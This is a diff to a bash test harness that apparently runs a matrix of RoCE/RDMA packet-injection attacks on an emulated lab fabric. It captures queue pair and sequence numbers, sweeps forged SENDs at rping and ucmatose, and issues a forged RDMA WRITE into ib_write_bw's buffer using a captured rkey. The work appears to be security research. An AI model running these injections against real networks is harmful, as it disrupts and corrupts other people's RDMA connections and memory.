@@ -32,26 +32,85 @@ _cell_psn_gap() {
 		"$CELL_INJECT_TEXT"
 }
 
+# rping: one forged SEND at the PSN its server expects ends it (its receive
+# buffer holds the 16-byte buffer advertisement; 20 forged bytes fail the
+# receive), and its PSN moves on by tens to hundreds a second. A long sweep
+# has one chance only: once the packet carrying the expected PSN is lost (the
+# first packets of a burst wait for ARP, a burst overruns the guest's
+# backlog), the rest run ahead of the QP and are all discarded as out of
+# sequence. A fast rping once missed two rounds in a row (perhaps the SEND
+# found the server's one receive not yet reposted: rxe answers RNR and drops
+# it, and the rest of the round is out of sequence). So: rounds of 2000 PSNs
+# from a request captured just before, until the server's QP fails, shows
+# the PSN gap, or 10 rounds (at most 30 s) went by. Sets gap and sweep (what
+# was sent); returns 1 if no round was sent.
+_cell_inject_rounds() {
+	local r sent=0 t0=$SECONDS
+	for r in 1 2 3 4 5 6 7 8 9 10; do
+		[ $((SECONDS - t0)) -lt 30 ] && kill -0 "$VICTIM_SERVER_PID" 2>/dev/null || break
+		victim_wire_bth --now || break
+		echo "inject round $r: psn $WIRE_PSN at $SECONDS s, $(grep -c 'ping data' "$VICTIM_CLIENT_LOG") pings" >&2
+		fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+			--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):2000" --iface fab3 --sport 4242 "${data[@]}" \
+			--json >"$CELL/attack.json" 2>>"$CELL/attack.err" && sent=$((sent + 1))
+		sleep 0.5
+		cell_victim_error_line dst >/dev/null && break
+		cell_qp_snapshot
+		gap=$(_cell_psn_gap) && break
+		gap=''
+	done
+	sweep="$sent round(s) of 2000 PSNs from the one then seen"
+	[ $sent -gt 0 ]
+}
+
 cell_inject() {
 	local v=$1 line data=(--data "$CELL_INJECT_TEXT") sweep ap gap note=''
 	# A sweep overtakes a stream only if it is faster: on the emulated fabric
 	# it sends about 7000 packets/s, full-rate ib_send_bw about 9000 (and its
 	# client posts no receives, so its idle direction takes no SEND).
 	if [ "$v" = send_bw ]; then VICTIM_SEND_BW_RATE=2000 note='(client at 2000 msg/s) '; export VICTIM_SEND_BW_RATE; fi
-	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; return; }
-	# ucmatose lives about a second: its first request is as fresh as it gets.
+	# rping: only the attack or the cell ends it (a server stopped by its
+	# timeout would end the client the way a broken one does), after a slow
+	# start-up and 30 s of rounds. ucmatose: still there when a slow start-up
+	# is over.
+	case "$v" in rping) VICTIM_SECONDS=70 ;; ucmatose) VICTIM_SECONDS=40 ;; esac
+	[ "$v" = ucmatose ] && cell_cm_capture_start
+	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
+	cell_cm_stop
+	# rping: the rounds below capture their own.
 	case "$v" in
-	naive | rdmasec | ucmatose) victim_wire_bth ;;
+	naive | rdmasec | rping) victim_wire_bth ;;
+	# ucmatose's bulk stream outruns a sweep, and it stalls and resends
+	# unpredictably; its server's QP sits still at the PSN the rdma_cm REP
+	# told (its client sends nothing until it replies): one exact SEND.
+	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
 	# ib_write_bw's client QP waits at the PSN the exchange told: one exact WRITE into its buffer.
 	write_bw) victim_exchange && [ -n "$EXCH_RKEY" ] && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
 	*) victim_wire_bth --now ;;
 	esac || { matrix_result inject "$v" error "" "no RoCE request seen on the wire"; victim_stop; return; }
 	case "$v" in
-	naive) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
+	naive | ucmatose) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
 	write_bw) sweep=$EXCH_PSN:1 data+=(--op write --rkey "$EXCH_RKEY" --va "$EXCH_VA") ;;
 	rdmasec) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 data=(--data-hex "$CELL_INJECT_FRAME") ;;
 	*) sweep=$(((WIRE_PSN + 1) & 0xffffff)):200000 ;;
 	esac
+	if [ "$v" = rping ]; then
+		gap=''
+		_cell_inject_rounds
+		echo "inject exit $? (qpn $WIRE_QPN, $sweep)" >&2
+		victim_attack_done
+		[ -n "$gap" ] || cell_qp_snapshot
+		victim_wait 12
+		if line=$(cell_victim_error_line dst); then
+			# rping reads its peer's buffer address from each SEND: forged bytes break it.
+			matrix_result inject "$v" succeeded "" "$line (after forged SENDs at its PSN)"
+		elif [ -n "$gap" ] || gap=$(_cell_psn_gap); then
+			matrix_result inject "$v" succeeded "" "$gap"
+		else
+			matrix_result inject "$v" error "" "missed: $sweep, no forged SEND seen accepted; server rc $VICTIM_SERVER_RC: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+		fi
+		return
+	fi
 	fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
 		--psn-sweep "$sweep" --iface fab3 --sport 4242 "${data[@]}" --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
 	ap=$!
@@ -98,9 +157,6 @@ cell_inject() {
 	*)
 		if [ -n "$gap" ] || gap=$(_cell_psn_gap); then
 			matrix_result inject "$v" succeeded "" "$note$gap"
-		elif [ "$v" = rping ] && line=$(cell_victim_error_line); then
-			# rping reads its peer's buffer address from each SEND: forged bytes break it.
-			matrix_result inject "$v" succeeded "" "$line (after forged SENDs at its PSN)"
 		else
 			matrix_result inject "$v" error "" "missed: no forged SEND seen accepted while the sweep ran (the bursting PSN was stepped over; $(_cell_psn_gap))"
 		fi
